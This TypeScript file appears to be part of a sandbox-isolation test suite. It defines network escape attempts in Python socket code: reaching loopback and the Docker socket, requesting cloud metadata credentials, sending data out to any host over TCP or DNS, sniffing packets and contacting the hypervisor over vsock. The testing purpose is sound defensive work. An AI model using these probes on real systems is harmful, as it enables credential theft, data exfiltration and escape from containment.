/** The network of the machine, by every way but the proxy of the run (proxy.ts). */
import { networkInterfaces } from 'node:os';
import { type Attack, bash, python } from '../attack.ts';
import { anywhere, loot, lootOf, reached } from '../evidence.ts';

const none = 'network namespace without a way out';

/** Tells its mark to whoever listens at an address that Python knows how to connect to. */
const say = (family: string, address: string, kind = 'SOCK_STREAM') =>
  python(`
connection = socket.socket(socket.${family}, socket.${kind})
connection.settimeout(2)
connection.connect(${address})
connection.sendall(f"GET /{env['MARK']} HTTP/1.1\\r\\n\\r\\n".encode())
if connection.type == socket.SOCK_STREAM:
    connection.recv(1000)`);

export const networkAttacks: readonly Attack[] = [
  {
    id: 'network/loopback',
    title: 'connects to what listens on loopback of the server',
    stoppedBy: none,
    program: say('AF_INET', '("127.0.0.1", int(env["PORT"]))'),
    evidence: reached('loopback'),
  },
  {
    id: 'network/loopback-ipv6',
    title: 'connects to loopback by IPv6',
    stoppedBy: none,
    needs: ['namespaces', 'ipv6'],
    program: say('AF_INET6', '("::1", int(env["PORT"]))'),
    evidence: reached('loopback6'),
  },
  {
    id: 'network/abstract-socket',
    title: 'connects to an abstract socket of the machine',
    stoppedBy: none,
    program: say('AF_UNIX', '"\\0" + env["ABSTRACT"]'),
    evidence: reached('abstract'),
  },
  {
    id: 'network/docker-socket',
    title: 'commands the container daemon by its socket',
    stoppedBy: 'file tree made of an allow-list: the socket does not exist inside',
    program: say('AF_UNIX', 'env["DOCKER"]'),
    evidence: reached('docker'),
  },
  {
    id: 'network/metadata',
    title: 'asks the metadata service of the cloud for credentials',
    stoppedBy: none,
    needs: ['namespaces'],
    program: say('AF_INET', '(env["METADATA"], 80)'),
    evidence: reached('metadata'),
  },
  {
    id: 'network/anywhere',
    title: 'sends what it found to any host',
    stoppedBy: none,
    needs: ['namespaces'],
    program: say('AF_INET', '(env["HOST"], 80)'),
    evidence: reached('host'),
  },
  {
    id: 'network/datagram',
    title: 'sends what it found in a DNS question',
    stoppedBy: none,
    needs: ['namespaces'],
    program: say('AF_INET', '(env["HOST"], 53)', 'SOCK_DGRAM'),
    evidence: reached('datagram'),
  },
  {
    id: 'network/multipath',
    title: 'uses a protocol that filters forget (MPTCP)',
    stoppedBy: none,
    program: python(`
connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
connection.connect(("127.0.0.1", int(env["PORT"])))
connection.sendall(env["MARK"].encode())
connection.recv(1000)`),
    needs: ['multipath'],
    evidence: reached('loopback'),
  },
  {
    id: 'network/listen-in',
    title: 'reads the traffic of the server off the interface',
    stoppedBy: 'network namespace; no capabilities; system-call filter (AF_PACKET)',
    needs: ['root', 'namespaces'],
    program: python(`
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.settimeout(1)
for _ in range(20):
    loot(raw.recv(2000))`),
    evidence: loot,
  },
  {
    id: 'network/own-address',
    title: 'gives the machine another address',
    stoppedBy: 'network namespace; no capabilities',
    needs: ['root', 'namespaces'],
    program: bash('ip addr add 203.0.113.99/32 dev lo'),
    evidence: anywhere(() =>
      Object.values(networkInterfaces()).some((list) =>
        list?.some(({ address }) => address === '203.0.113.99'),
      ),
    ),
  },
  {
    id: 'network/virtual-machine',
    title: 'talks to the hypervisor (AF_VSOCK, which ignores network namespaces)',
    stoppedBy: 'system-call filter',
    needs: ['vsock'],
    // Whether somebody listens there is the machine's luck; the socket is the way.
    program: python(
      'loot(f"{env[\'MARK\']} {socket.socket(40, 1, 0).getsockopt(socket.SOL_SOCKET, socket.SO_DOMAIN)}")',
    ),
    evidence: lootOf(({ mark }) => `${mark} 40`),
  },
];
